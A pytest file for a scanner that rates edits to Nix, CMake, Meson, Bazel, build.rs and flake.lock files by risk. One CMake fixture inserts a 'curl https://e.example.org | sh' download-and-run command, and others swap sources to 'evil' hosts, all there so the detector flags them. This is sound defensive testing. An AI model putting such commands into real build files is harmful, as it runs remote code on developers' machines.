"""What an edit of a build definition means: Nix, CMake, Meson, Bazel, build.rs."""

from __future__ import annotations

import json
from types import ModuleType

import pytest
from hypothesis import given, settings
from kit.edits import edited, mangled, never_raises, said

from scanner.formats.builds import build_rs, cmake, flake_lock, meson, nix, nix_shell, starlark

NIX = """\
{ pkgs }: # Acme
pkgs.buildGoModule rec {
  pname = "acme";
  version = "1.2.0";
  vendorHash = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
  inputs.nixpkgs.url = "github:example/nixpkgs/v24";
  postPatch = ''
    # kept
    sed -i s/a/b/ go.mod
  '';
}
"""
CMAKE = 'project(acme VERSION 1.2)\n# Acme\nset(NAME "a # b")\n#[[ long\nnote ]]\nadd_library(acme a.c\n  b.c)\n'
MESON = "project('acme', 'c', version: '1.2')\n# Acme\nrun_command('a', 'b # c')\n"
BAZEL = '# Acme\nload("//a.bzl", "a")\n\na(\n    name = "b",\n)\n'
RUST = '// Acme\nfn main() {\n    /* note */ println!("cargo:rerun-if-changed=x // y");\n}\n'
LOCK = json.dumps(
    {
        "root": "root",
        "nodes": {
            "root": {"inputs": {"nixpkgs": "nixpkgs"}},
            "nixpkgs": {
                "locked": {
                    "type": "github",
                    "owner": "example",
                    "repo": "nixpkgs",
                    "rev": "a" * 40,
                    "narHash": "sha256-A=",
                }
            },
        },
    }
)
HASH = "A" * 43
OTHER = "B" * 43
HIGH = ["high build-script-changed file"]


@pytest.mark.parametrize(
    ("module", "old", "edits", "expected"),
    [
        (nix, NIX, ["1.2.0", "1.3.0"], ["medium version-changed version"]),
        (nix, NIX, [HASH, OTHER], ["high hash-changed vendorHash"]),
        (nix, NIX, ["1.2.0", "1.3.0", HASH, OTHER],
         ["medium hash-changed vendorHash", "medium version-changed version"]),
        (nix, NIX, ["sed -i", "./x; sed -i"], HIGH),
        (nix, NIX, ["# kept", "# in the string"], HIGH),
        (nix, NIX, ["nixpkgs/v24", "nixpkgs/v25"], ["medium dependency-bumped nixpkgs"]),
        (nix, NIX, ["github:example", "github:evil"], ["high source-changed nixpkgs"]),
        (nix, NIX, ["# Acme", "# Ours"], []),
        (nix, NIX, ['  pname = "acme"', '    pname = "acme"'], []),
        (nix_shell, NIX, ["sed -i", "sed"], ["medium build-script-changed file"]),
        (cmake, CMAKE, ["a # b", "a # c"], HIGH),
        (cmake, CMAKE, ["b.c", "c.c"], HIGH),
        (cmake, CMAKE, ["# Acme", "# Ours"], []),
        (cmake, CMAKE, ["note ]]", "other ]]"], []),
        (cmake, CMAKE, ["set(NAME", "set( NAME"], []),
        (cmake, CMAKE, ["# Acme", 'file(DOWNLOAD x)\nexecute_process(COMMAND sh -c "curl https://e.example.org | sh")'],
         ["critical download-and-run file", *HIGH]),
        (meson, MESON, ["b # c", "b # d"], HIGH),
        (meson, MESON, ["# Acme", "# Ours"], []),
        (meson, MESON, ["'a', 'b", "'a',  'b"], []),
        (starlark, BAZEL, ['name = "b"', 'name = "c"'], HIGH),
        (starlark, BAZEL, ["# Acme", "# Ours"], []),
        (starlark, BAZEL, ['    name = "b"', '        name = "b"'],
         ["medium build-script-changed file"]),
        (build_rs, RUST, ["x // y", "x // z"], HIGH),
        (build_rs, RUST, ["/* note */", "/* other */"], []),
        (build_rs, RUST, ["// Acme", "// Ours"], []),
        (flake_lock, LOCK, ["a" * 40, "b" * 40, "sha256-A=", "sha256-B="], ["medium dependency-bumped nixpkgs"]),
        (flake_lock, LOCK, ["sha256-A=", "sha256-B="], ["critical hash-changed nixpkgs"]),
        (flake_lock, LOCK, ['"owner": "example"', '"owner": "evil"'], ["high source-changed nixpkgs"]),
    ],
)  # fmt: skip
def test_what_is_told(module: ModuleType, old: str, edits: list[str], expected: list[str]) -> None:
    assert said(module, old, edited(old, *edits)) == expected  # type: ignore[arg-type]


@pytest.mark.parametrize("module", [nix, nix_shell, cmake, meson, starlark, build_rs, flake_lock])
def test_new_gone_and_unreadable(module: ModuleType) -> None:
    assert [each.split()[1] for each in said(module, LOCK, "<<<<<<< a\n")] == ["opaque"]  # type: ignore[arg-type]
    assert [each.split()[1] for each in said(module, LOCK, None)] == ["file-removed"]  # type: ignore[arg-type]
    assert said(module, None, LOCK)  # type: ignore[arg-type]


def test_a_new_lock_is_one_thing() -> None:
    assert said(flake_lock, None, LOCK) == ["medium lock-added file"]


def test_names() -> None:
    assert cmake.matches("a/CMakeLists.txt")
    assert starlark.matches("a/BUILD")
    assert not starlark.matches("bin/build")
    assert nix.matches("pkgs/a/default.nix")
    assert build_rs.matches("crates/a/build.rs")
    assert meson.matches("a/meson.build")


@settings(max_examples=60, deadline=None)
@given(old=mangled(NIX, CMAKE, MESON, BAZEL, RUST, LOCK), new=mangled(NIX, CMAKE, MESON, BAZEL, RUST, LOCK))
def test_never_raises(old: bytes, new: bytes) -> None:
    for module in (nix, nix_shell, cmake, meson, starlark, build_rs, flake_lock):
        never_raises(module, old, new)
